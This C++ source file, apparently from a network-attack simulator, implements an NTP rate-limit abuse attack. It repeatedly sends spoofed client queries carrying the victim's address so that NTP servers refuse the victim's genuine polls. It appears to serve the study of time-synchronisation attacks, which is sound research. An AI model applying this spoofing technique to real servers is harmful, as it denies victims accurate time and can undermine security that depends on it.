#include "attack/ratelimit_abuser.h"

#include "ntp/packet.h"
#include "ntp/rate_limit.h"

namespace dnstime::attack {

namespace {
/// Inter-packet spacing of the spoofed query stream per target server.
constexpr sim::Duration kFloodSpacing = sim::Duration::millis(400);
static_assert(kFloodSpacing < ntp::kMinGap,
              "the flood must beat the server's `discard minimum` gap, so "
              "every packet sourced from the victim — including its genuine "
              "polls — is refused unconditionally");
}  // namespace

RateLimitAbuser::RateLimitAbuser(net::NetStack& attacker, Ipv4Addr victim)
    : stack_(attacker), victim_(victim) {}

RateLimitAbuser::~RateLimitAbuser() { stop(); }

void RateLimitAbuser::disrupt_all(const std::vector<Ipv4Addr>& servers) {
  Stream& stream = streams_.emplace_back();
  for (Ipv4Addr server : servers) {
    if (flooded(server)) continue;  // also by an earlier entry of this list
    // Mode-3 query, source address forged to the victim's. The source port
    // is irrelevant: ntpd's `restrict limited` accounting is per address.
    ntp::NtpPacket query;
    query.mode = ntp::Mode::kClient;
    query.tx_time = 1.0;  // arbitrary; the server echoes it to the victim

    net::Ipv4Packet& forged = stream.forged.emplace_back();
    forged.src = victim_;
    forged.dst = server;
    forged.protocol = net::kProtoUdp;
    forged.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort,
                                         kNtpPort, victim_, server);
    // The copy shares the pooled bytes; send_raw stamps its own origin.
    stack_.send_raw(forged);
    spoofed_++;
  }
  if (stream.forged.empty()) {
    streams_.pop_back();
    return;
  }
  const std::size_t index = streams_.size() - 1;
  stream.tick = stack_.loop().schedule_after(
      kFloodSpacing, [this, index] { send_round(index); });
}

void RateLimitAbuser::stop() {
  for (Stream& stream : streams_) stream.tick.cancel();
  streams_.clear();
}

std::size_t RateLimitAbuser::active_targets() const {
  std::size_t n = 0;
  for (const Stream& stream : streams_) n += stream.forged.size();
  return n;
}

bool RateLimitAbuser::flooded(Ipv4Addr server) const {
  for (const Stream& stream : streams_) {
    for (const net::Ipv4Packet& forged : stream.forged) {
      if (forged.dst == server) return true;
    }
  }
  return false;
}

void RateLimitAbuser::send_round(std::size_t index) {
  Stream& stream = streams_[index];
  for (const net::Ipv4Packet& forged : stream.forged) stack_.send_raw(forged);
  spoofed_ += stream.forged.size();
  stream.tick = stack_.loop().schedule_after(
      kFloodSpacing, [this, index] { send_round(index); });
}

}  // namespace dnstime::attack
